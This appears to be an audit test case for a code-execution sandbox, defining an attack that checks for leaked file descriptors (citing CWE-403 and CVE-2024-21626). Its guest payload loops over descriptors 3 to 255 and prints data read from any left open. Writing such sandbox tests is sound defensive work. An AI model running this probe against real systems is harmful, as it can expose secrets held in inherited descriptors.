"""Read from every descriptor that may have been left open"""

from executor.audit.attack import Attack, Harm

ATTACK = Attack(
    harm=Harm.SECRET,
    references=("CWE-403", "CVE-2024-21626"),
    guest="""
import os

for descriptor in range(3, 256):
    try:
        print(os.pread(descriptor, 200, 0))
    except OSError:
        pass
""",
)
